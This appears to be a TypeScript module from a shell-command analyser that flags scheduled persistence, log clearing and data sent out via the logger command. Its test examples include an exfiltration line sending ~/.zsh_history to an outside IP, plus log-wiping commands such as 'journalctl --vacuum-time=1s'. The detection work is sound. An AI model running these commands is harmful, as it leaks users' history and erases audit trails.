import type { DataSource } from '../../words.ts'
import { reads, stdinText, textOf, value } from '../files/touching.ts'
import type { Spec, SubReader } from '../form/form.ts'
import { fileSource } from '../network/data.ts'
import { readOptions } from '../options.ts'
import type { Program, Scribe } from '../program.ts'
import { changesHere, lineOf, says } from './words-of.ts'

/** Reads the commands of a crontab so that what they do is seen too. */
function readTable(text: string, scribe: Scribe): void {
  for (const line of text.split('\n')) {
    const entry = /^\s*(?:@\w+|(?:[\d*/,\-a-zA-Z]+\s+){5})\s*(\S.*)$/.exec(line)
    if (entry?.[1] && !line.trim().startsWith('#')) scribe.runsShell(value(entry[1], []), 'cron')
  }
}

const crontab: Program = {
  names: ['crontab', 'fcrontab'],
  read: (command, scribe) => {
    const options = readOptions(command.args, { flags: '-leriTn', values: '-ucs' })
    if (options.has('l', 'T', 'n') && !options.has('r')) return 'proven'
    if (options.has('r')) {
      const path = scribe.pathOf(`/var/spool/cron/crontabs/${options.value('u')?.text ?? scribe.facts.user}`)
      scribe.effect({ kind: 'delete-path', path, recursive: false, wipe: false, by: 'crontab -r' })
      return 'plain'
    }
    const [file] = options.operands
    const text = file ? textOf(file, command, scribe) : stdinText(command)
    if (file) reads([file], scribe)
    const certainty = options.has('e') ? 'likely' : 'certain'
    scribe.effect({ kind: 'persist', mechanism: 'cron', target: options.value('u')?.text ?? 'crontab', certainty })
    if (text !== undefined) readTable(text, scribe)
    return 'plain'
  },
}

/** `echo command | at 5pm`: a shell runs it later. */
const at: Program = {
  names: ['at', 'batch'],
  read: (command, scribe) => {
    const { args, stdin } = command
    if (says(command, /^-[lcV]$/) || (args.length <= 2 && args[0]?.text === '-q' && stdin.kind === 'inherited'))
      return 'proven'
    if (says(command, /^-[dr]$/))
      return changesHere({ system: 'at', verb: 'cancel', target: args.at(-1)?.text ?? '?', family: 'job' }, scribe)
    scribe.effect({ kind: 'persist', mechanism: 'at', target: lineOf(args) })
    const text = stdinText(command)
    if (text !== undefined) scribe.runsShell(value(text, []), 'at')
    return 'plain'
  },
}

const systemdRun: Program = {
  names: ['systemd-run'],
  read: (command, scribe) => {
    const grammar = {
      flags:
        '-qtPrGdS user system scope remain-after-exit no-block wait pty pipe quiet collect same-dir shell no-ask-password',
      values:
        '-upEMH unit property description slice service-type uid gid nice working-directory setenv on-active on-boot on-startup on-unit-active on-calendar timer-property on-unit-inactive host machine',
      stopAtOperand: true,
    }
    const options = readOptions(command.args, grammar)
    const timed = [...options.given.keys()].some((name) => name.startsWith('on-'))
    // A service of its own outlives the session; a scope, or one that is waited for, does not.
    const stays = !options.has('scope', 'wait', 'pty', 'pipe', 't', 'P', 'shell', 'S') && options.operands.length > 0
    if (timed || stays)
      scribe.effect({ kind: 'persist', mechanism: 'systemd', target: options.operands[0]?.known ?? 'timer' })
    const standing = options.operands.length > 0 ? scribe.runs(options.operands, 'systemd-run') : 'plain'
    return options.unknown.length > 0 ? 'unknown' : timed || stays || standing === 'proven' ? 'plain' : standing
  },
}

/** The file that `logger -f` puts into the log, and the machine that `-n` sends it to. */
const logs: SubReader = ({ loose, command: { args, stdin }, scribe }) => {
  const word = loose.value('-f', '--file')
  const file = word && fileSource(word, scribe)
  const host = loose.value('-n', '--server')?.known
  if (host === undefined) return 'plain'
  const payload: readonly DataSource[] = file
    ? [file]
    : stdin.kind === 'value'
      ? stdin.value.sources
      : args.flatMap((each) => each.sources.filter((source) => source.kind !== 'literal'))
  scribe.effect({ kind: 'send-data', host, channel: 'socket', payload })
  return 'plain'
}

export const RECORDS: readonly Spec[] = [
  {
    names: 'atrm',
    system: 'at',
    family: 'job',
    rules: [['*', 'cancel']],
    examples: { match: ['atrm 4'], pass: [] },
  },
  {
    names: 'journalctl dmesg logrotate',
    rules: [
      ['--vacuum-*|--relinquish-var|--setup-keys|-c|-C|-?c|-?C|-c?|-C?|--clear|--read-clear', 'weaken audit the log'],
      ['--rotate', 'maybe weaken audit the log'],
      ['--update-catalog|--cursor-file|--sync|--flush|-D|-E|--console-*', 'local'],
      ['!-d/!--debug/*.conf|*?etc?logrotate*|*logrotate.d*', 'maybe weaken audit log rotation'],
      ['**', 'shows'],
    ],
    examples: {
      match: ['journalctl --vacuum-time=1s', 'dmesg -C', 'logrotate -f app.conf'],
      pass: ['journalctl -u web', 'dmesg -T'],
    },
  },
  {
    names: 'logger',
    options: '-n: -f: -t: -p:',
    rules: [['**', logs]],
    examples: { match: ['logger -n 203.0.113.9 -f ~/.zsh_history'], pass: ['logger done'] },
  },
]

export const SCHEDULES: readonly Program[] = [crontab, at, systemdRun]
